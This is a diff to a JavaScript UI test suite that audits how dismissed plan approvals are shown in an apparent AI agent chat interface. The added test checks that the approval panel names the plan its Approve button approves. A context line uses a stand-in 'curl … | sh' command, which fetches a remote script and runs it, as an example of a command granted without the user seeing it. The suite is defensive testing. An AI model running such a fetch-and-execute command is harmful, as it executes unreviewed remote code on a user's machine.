@@ -60,4 +60,18 @@ describe('audit: a dismissed plan approval, approved from the chat', () => {
     assert.match(text, /curl -s https:\/\/paste\.example\/x \| sh/, `Approve grants the plan's allowed command unseen (the panel shows "${text.trim()}")`);
   });
 
+  // exit_plan_mode on a second plan asks for permission.what (plans/b.plan) while the session's
+  // plan is still the first one; dismiss() records st.session.planFile, so the panel names the
+  // wrong plan and its Approve approves one the panel never named.
+  test('the awaiting panel names the plan its Approve approves', async () => {
+    const m = model();
+    askApproval(m, 'plans/b.plan', []);
+    await show(m);
+    await page.locator('form.question-bar.approval').waitFor();
+    m.dismiss('s1', 'qa');
+    await show(m);
+    const head = await page.locator('.awaiting .bar-title').innerText();
+    assert.match(head, /plans\/b\.plan/, `the panel names the plan being approved (shows "${head.trim()}")`);
+  });
+
 });
